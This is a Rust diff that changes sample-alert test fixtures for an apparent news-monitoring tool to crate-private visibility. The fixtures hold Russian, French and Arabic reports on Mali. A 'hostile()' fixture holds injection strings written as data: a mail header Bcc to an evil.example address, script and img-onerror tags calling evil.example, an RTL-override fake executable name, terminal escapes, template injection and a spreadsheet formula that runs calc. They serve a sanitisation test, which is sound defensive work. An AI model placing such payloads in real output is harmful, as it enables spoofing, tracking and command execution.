@@ -8,7 +8,7 @@ use harmattan::text::{ByteSpan, Field};
 use jiff::Timestamp;
 
 /// A Telegram post in Russian without a title: unverified, critical.
-pub fn russian() -> Alert {
+pub(crate) fn russian() -> Alert {
     let text = "Миссия ЧВК «Вагнер» в Мали завершена. Бойцы возвращаются домой из Тимбукту.\n\n\
                 Главная задача выполнена: столицы всех регионов вернулись под контроль законной власти.";
     let mut item = item("wagner-channel", SourceKind::Telegram, "", text, "https://t.me/wagner_sample/123");
@@ -38,7 +38,7 @@ pub fn russian() -> Alert {
 }
 
 /// A French article with a title, an update of a story of three reports: press, high.
-pub fn french() -> Alert {
+pub(crate) fn french() -> Alert {
     let title = "Mali: l'armée et Africa Corps quittent la base de Tessalit";
     let text = "Des éléments de l’Africa Corps et des Forces armées maliennes ont quitté le camp de Tessalit, \
                 dans l’extrême nord du pays, selon plusieurs sources locales. Le départ a commencé à l’aube.";
@@ -77,7 +77,7 @@ pub fn french() -> Alert {
 }
 
 /// An Arabic dispatch: wire, medium, undated.
-pub fn arabic() -> Alert {
+pub(crate) fn arabic() -> Alert {
     let title = "مالي: هجوم على موقع للجيش قرب تمبكتو";
     let text = "قُتل عدد من الجنود في هجوم استهدف موقعا عسكريا قرب تمبكتو شمال مالي، وفق مصدر أمني.";
     let mut item = item("wire-ar", SourceKind::Feed, title, text, "https://wire.example/ar/2026/11/مالي");
@@ -94,7 +94,7 @@ pub fn arabic() -> Alert {
 }
 
 /// What a source could write to harm its reader.
-pub fn hostile() -> Alert {
+pub(crate) fn hostile() -> Alert {
     let title = "Coup in Mali\r\nBcc: victim@evil.example\r\n\r\n<script>alert(1)</script>\u{202e}gpj.exe\u{0}\u{1b}[2J";
     let text = "\u{1b}]0;owned\u{7}\n.\nQUIT\n.hidden\n\n\n\n\n\"><img src=https://evil.example/pixel.png onerror=x> \
                 &amp; {{7*7}} @everyone \u{2028}=cmd()|'/C calc'!A0 \u{2066}Mali\u{2069}";
@@ -114,7 +114,7 @@ pub fn hostile() -> Alert {
 }
 
 /// When every attempt of the samples begins.
-pub fn now() -> Timestamp {
+pub(crate) fn now() -> Timestamp {
     time("2026-11-23T17:00:05Z")
 }
 
